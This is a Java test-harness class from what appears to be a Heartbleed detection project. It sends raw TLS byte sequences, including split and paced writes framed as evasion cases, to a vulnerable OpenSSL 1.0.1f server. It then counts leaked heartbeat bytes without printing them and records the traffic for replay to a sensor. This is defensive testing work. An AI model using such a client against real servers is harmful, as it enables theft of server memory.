package io.heartguard.evasion;

import io.heartguard.wire.Bytes;
import io.heartguard.wire.heartbeat.HeartbeatException;
import io.heartguard.wire.heartbeat.HeartbeatMessage;
import io.heartguard.wire.heartbeat.HeartbeatMessageType;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.io.OutputStream;
import java.net.InetSocketAddress;
import java.net.Socket;
import java.net.SocketException;
import java.net.SocketTimeoutException;
import java.time.Duration;
import java.util.ArrayList;
import java.util.List;

/**
 * A client that speaks raw bytes: it writes exactly what a case says, one flushed write per piece, reads the
 * server's records, and keeps both byte streams in order so the run can be replayed to the sensor as a capture.
 *
 * <p>Its oracle needs positive evidence, as the scanner's does: a heartbeat response counts as honest only when its
 * payload equals the payload of a well-formed request this client sent (each request answers once). Every payload
 * byte of any other response is counted as leaked: the server sent bytes it was never given. Payloads are compared,
 * never printed.
 */
final class AttackClient implements AutoCloseable {
  /** A hung case fails instead of hanging the build. */
  private static final int READ_TIMEOUT_MILLIS = 10_000;

  /** Bytes one way, as one write or one read, with when it happened. */
  record Segment(boolean fromClient, byte[] bytes, long nanos) {}

  /** A record as received: its type and the length its header announced. */
  record RecordSeen(int type, int length) {}

  /**
   * What came back. {@code leakedBytes} is the oracle's count (see the class comment); {@code ended} says how the
   * connection ended: "eof" or "reset".
   */
  record Outcome(List<RecordSeen> records, int heartbeatBytesReceived, int honestAnswers, int leakedBytes,
      String ended) {
    int heartbeatRecords() {
      return (int) records.stream().filter(r -> r.type() == AttackBytes.HEARTBEAT).count();
    }
  }

  private final Socket socket;
  private final OutputStream out;
  private final InputStream in;
  private final long start = System.nanoTime();
  private final List<Segment> segments = new ArrayList<>();
  private final ByteArrayOutputStream sent = new ByteArrayOutputStream();
  private final ByteArrayOutputStream received = new ByteArrayOutputStream();
  private boolean writesStopped;
  private String ended;

  private AttackClient(Socket socket) throws IOException {
    this.socket = socket;
    socket.setTcpNoDelay(true); // one write, one segment: the split cases depend on it
    socket.setSoTimeout(READ_TIMEOUT_MILLIS);
    this.out = socket.getOutputStream();
    this.in = socket.getInputStream();
  }

  static AttackClient connect(InetSocketAddress address) throws IOException {
    Socket socket = new Socket();
    socket.connect(address, READ_TIMEOUT_MILLIS);
    return new AttackClient(socket);
  }

  /** Writes and flushes one piece; after a reset the rest of the case is not sent. */
  void send(byte[] piece) {
    if (writesStopped) {
      return;
    }
    try {
      out.write(piece);
      out.flush();
      sent.writeBytes(piece);
      segments.add(new Segment(true, piece.clone(), System.nanoTime() - start));
    } catch (IOException e) {
      writesStopped = true;
    }
  }

  /**
   * Reads until the server's first flight ends with ServerHelloDone, or the connection ends. Heartbeat answers that
   * come before it (a heartbeat inside the ClientHello's fragments is answered first) are kept like any others.
   */
  void readServerFlight() throws IOException {
    while (!flightDone() && readOnce()) {
      // keep reading
    }
  }

  /** Reads until {@code total} whole records have come from the server since the start, or the connection ends. */
  void awaitRecords(int total) throws IOException {
    while (completeRecords() < total && readOnce()) {
      // keep reading
    }
  }

  private int completeRecords() {
    return (int) RecordStream.records(received.toByteArray(), false).stream()
        .filter(r -> r.fragment().length == r.announcedLength()).count();
  }

  /** Half-closes (1.0.1f then fails its handshake and closes), reads to the end, and judges what came back. */
  Outcome finish() throws IOException {
    if (!writesStopped) {
      try {
        socket.shutdownOutput();
      } catch (IOException e) {
        writesStopped = true;
      }
    }
    while (readOnce()) {
      // read to the end
    }
    return judge();
  }

  /** Both byte streams in the order they crossed the socket. */
  List<Segment> segments() {
    return List.copyOf(segments);
  }

  /** One read; false when the connection has ended. */
  private boolean readOnce() throws IOException {
    if (ended != null) {
      return false;
    }
    byte[] buf = new byte[65536];
    int n;
    try {
      n = in.read(buf);
    } catch (SocketTimeoutException e) {
      throw new AssertionError("the server neither answered nor closed within " + READ_TIMEOUT_MILLIS + " ms");
    } catch (SocketException e) {
      ended = "reset";
      return false;
    }
    if (n < 0) {
      ended = "eof";
      return false;
    }
    received.write(buf, 0, n);
    segments.add(new Segment(false, java.util.Arrays.copyOf(buf, n), System.nanoTime() - start));
    return true;
  }

  private boolean flightDone() {
    for (RecordStream.Record r : RecordStream.records(received.toByteArray(), false)) {
      byte[] f = r.fragment();
      if (r.type() == AttackBytes.HANDSHAKE && f.length >= 4 && f[f.length - 4] == 14 && f[f.length - 3] == 0
          && f[f.length - 2] == 0 && f[f.length - 1] == 0) {
        return true;
      }
      if (r.type() == AttackBytes.ALERT) {
        return true;
      }
    }
    return false;
  }

  private Outcome judge() {
    List<Bytes> pending = new ArrayList<>();
    for (RecordStream.Record r : RecordStream.records(sent.toByteArray(), true)) {
      if (r.type() == AttackBytes.HEARTBEAT) {
        try {
          HeartbeatMessage m = HeartbeatMessage.parse(r.fragment(), 0, r.fragment().length);
          if (m.type() == HeartbeatMessageType.REQUEST) {
            pending.add(m.payload());
          }
        } catch (HeartbeatException malformed) {
          // not a request a fixed server answers: any answer to it is a leak
        }
      }
    }
    List<RecordSeen> seen = new ArrayList<>();
    ByteArrayOutputStream heartbeats = new ByteArrayOutputStream();
    for (RecordStream.Record r : RecordStream.records(received.toByteArray(), false)) {
      seen.add(new RecordSeen(r.type(), r.announcedLength()));
      if (r.type() == AttackBytes.HEARTBEAT) {
        heartbeats.writeBytes(r.fragment());
      }
    }
    // 1.0.1f writes each answer as one message, cut into records of at most 2^14: read them back as messages.
    byte[] h = heartbeats.toByteArray();
    int honest = 0;
    int leaked = 0;
    int pos = 0;
    while (pos + 3 <= h.length) {
      int type = h[pos] & 0xff;
      int declared = ((h[pos + 1] & 0xff) << 8) | (h[pos + 2] & 0xff);
      int available = Math.min(declared, h.length - pos - 3);
      Bytes payload = Bytes.of(h, pos + 3, available);
      if (type == HeartbeatMessageType.RESPONSE.code() && available == declared && pending.remove(payload)) {
        honest++;
      } else {
        leaked += available;
      }
      pos += 3 + declared + 16;
    }
    return new Outcome(List.copyOf(seen), h.length, honest, leaked, ended);
  }

  @Override
  public void close() throws IOException {
    socket.close();
  }

  /** Convenience for the pacing of split cases: a gap between writes, part of the attack, not synchronisation. */
  static void pause(Duration gap) {
    try {
      Thread.sleep(gap);
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
    }
  }
}
